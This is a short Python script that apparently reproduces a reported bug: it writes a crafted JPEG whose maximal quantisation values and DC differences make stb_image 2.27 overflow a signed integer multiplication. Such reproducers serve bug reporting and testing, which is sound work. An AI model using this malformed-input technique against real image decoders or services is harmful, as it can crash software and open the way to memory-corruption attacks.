# Writes jpeg_dc_overflow.jpg: a valid baseline JPEG (16x8 grey, two 8x8 blocks) whose 16-bit
# quantisation table holds 65535 and whose two DC differences are +32767 each, so stb_image
# 2.27 computes 65534 * 65535 in an int (stb issue 1533). Run: python3 make_jpeg_dc_overflow.py
import os
import struct


def segment(marker, body):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def entropy_bytes(bits):
    bits += "1" * (-len(bits) % 8)  # pad the last byte with ones, as the standard does
    out = bytearray()
    for i in range(0, len(bits), 8):
        out.append(int(bits[i:i + 8], 2))
        if out[-1] == 0xFF:
            out.append(0)  # byte stuffing
    return bytes(out)


jpeg = b"\xff\xd8"
jpeg += segment(0xDB, bytes([0x10]) + struct.pack(">64H", *[65535] * 64))  # 16-bit table 0
jpeg += segment(0xC0, bytes([8]) + struct.pack(">HH", 8, 16) + bytes([1, 1, 0x11, 0]))  # baseline, grey
jpeg += segment(0xC4, bytes([0x00, 1] + [0] * 15 + [15]))  # DC table 0: code "0" = category 15
jpeg += segment(0xC4, bytes([0x10, 1] + [0] * 15 + [0]))  # AC table 0: code "0" = end of block
jpeg += segment(0xDA, bytes([1, 1, 0x00, 0, 63, 0]))
block = "0" + "1" * 15 + "0"  # DC category 15, difference +32767, then end of block
jpeg += entropy_bytes(block * 2) + b"\xff\xd9"
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "jpeg_dc_overflow.jpg"), "wb") as f:
    f.write(jpeg)
